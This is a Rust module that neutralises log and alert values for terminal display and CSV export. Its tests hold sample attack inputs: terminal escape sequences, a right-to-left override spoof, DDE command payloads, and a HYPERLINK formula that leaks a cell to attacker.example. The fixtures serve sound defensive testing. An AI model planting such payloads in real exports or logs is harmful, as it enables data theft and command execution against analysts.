//! Values from logs, alerts and cloud APIs on their way to a person. Their
//! content is chosen by whoever wrote the log (a sign-in's user agent, an
//! S3 key, an inbox rule's name), so a terminal or a spreadsheet must show
//! them, never act on them.
//!
//! - [`term`] for text output: C0 and C1 control characters, DEL and the
//!   bidirectional overrides become visible `\u{1b}` escapes. A record then
//!   cannot move the cursor, rewrite or hide earlier lines, retitle the
//!   window or write the clipboard (ESC, CSI, OSC 52), nor reorder what the
//!   analyst reads (U+202E).
//! - [`CsvCells`] for CSV exports: a cell that starts like a formula gets a
//!   leading `'`, OWASP's guidance against CSV injection (CWE-1236), so
//!   Excel and LibreOffice show it as text instead of running it.
//!
//! JSON needs neither: serde escapes control characters, and nothing
//! evaluates a JSON string.

use std::borrow::Cow;
use std::fmt::Write as _;

/// `s` safe to print on a terminal: every character that could steer it
/// is written as a `\u{…}` escape instead. Newlines too: one value is one
/// field of one line.
pub fn term(s: &str) -> Cow<'_, str> {
    escape(s, false)
}

/// Like [`term`], for multi-line text (an error chain): line breaks stay.
pub fn term_lines(s: &str) -> Cow<'_, str> {
    escape(s, true)
}

fn escape(s: &str, keep_newlines: bool) -> Cow<'_, str> {
    let escaped = |c: char| needs_escape(c) && !(keep_newlines && c == '\n');
    if !s.chars().any(escaped) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 8);
    for c in s.chars() {
        if escaped(c) {
            let _ = write!(out, "\\u{{{:x}}}", u32::from(c));
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

fn needs_escape(c: char) -> bool {
    // `is_control` is Unicode's Cc: U+0000-001F (C0), U+007F (DEL), U+0080-009F (C1).
    c.is_control()
        // Bidirectional embeddings, overrides and isolates reorder the text around them.
        || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// How a CSV export writes text cells.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum CsvCells {
    /// A cell starting with `=`, `+`, `-`, `@`, TAB or CR (or the full-width
    /// `＝＋－＠`, which some spreadsheets also take for a formula) gets a
    /// leading `'`. A lone `-` (custody's "none") is left: it has no operand
    /// to run. Columns custody itself types as numbers are written as they
    /// are, so only text can carry the mark.
    #[default]
    Neutralised,
    /// Every cell exactly as recorded, for tools that read CSV as data.
    Raw,
}

impl CsvCells {
    /// A text cell, neutralised unless raw cells were asked for.
    pub fn text<'a>(self, s: &'a str) -> Cow<'a, str> {
        let formula = s != "-"
            && matches!(
                s.chars().next(),
                Some('=' | '+' | '-' | '@' | '\t' | '\r' | '＝' | '＋' | '－' | '＠')
            );
        if formula && self == Self::Neutralised {
            Cow::Owned(format!("'{s}"))
        } else {
            Cow::Borrowed(s)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn t2_control_characters_are_shown_not_sent() {
        let hostile = "alice@contoso.com\u{1b}[2K\u{1b}[1A\u{1b}]0;owned\u{7}\u{9b}31m\u{7f}\u{202e}txt.exe\n";
        let shown = term(hostile);
        assert_eq!(
            shown,
            "alice@contoso.com\\u{1b}[2K\\u{1b}[1A\\u{1b}]0;owned\\u{7}\\u{9b}31m\\u{7f}\\u{202e}txt.exe\\u{a}"
        );
        assert!(!shown.chars().any(needs_escape), "{shown}");
        assert_eq!(term_lines("a\u{1b}\nb"), "a\\u{1b}\nb");
        // Ordinary text, accents and other scripts are untouched and not copied.
        assert!(matches!(term("Zoë 東京 (x86_64)"), Cow::Borrowed(_)));
    }

    #[test]
    fn t1_csv_cells_cannot_start_a_formula() {
        for hostile in [
            "=HYPERLINK(\"http://attacker.example/?\"&A1,\"details\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+Office 365 Exchange Online",
            "-2+3+cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "＝1+1",
        ] {
            let cell = CsvCells::Neutralised.text(hostile);
            assert_eq!(cell, format!("'{hostile}"));
            assert_eq!(CsvCells::Raw.text(hostile), hostile);
        }
        for plain in ["alice@contoso.com", "", "-", "203.0.113.10", "1+1", " =x"] {
            assert_eq!(CsvCells::Neutralised.text(plain), plain);
        }
    }
}
